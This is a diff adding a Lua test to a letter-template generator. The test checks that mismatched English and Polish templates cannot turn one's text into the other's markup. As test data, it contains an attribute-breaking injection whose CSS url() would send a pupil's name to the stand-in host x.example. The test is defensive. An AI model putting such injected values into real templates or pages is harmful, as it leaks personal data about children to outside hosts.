@@ -311,6 +311,14 @@ describe("a parent's language", function()
     refused("hello -o out --parent mother --language Polsh", '"Polsh" is no language, did you mean "Polish"?')
     assert.is_false(has(letter("hello -o out --parent mother --language en").out, "Polish"))
   end)
+
+  it("is looked at with the English one after it: no text of one becomes a tag of the other", function()
+    write_template("hello", letter_head .. "<p>It's' style='background: url(//x.example/{{pupil.name}})' lang='en</p>")
+    write_template("hello.pl", letter_head .. "<p title='</body>'>Witaj</p>")
+    refused("hello -o out --parent mother", "map/templates/hello.pl.html, line ")
+    assert.is_nil(io.open(w.top .. "/out/cal-byron-hello-mrs-byron.html"))
+    letter "hello -o out --parent mother --language en"
+  end)
 end)
 
 describe("what was made", function()
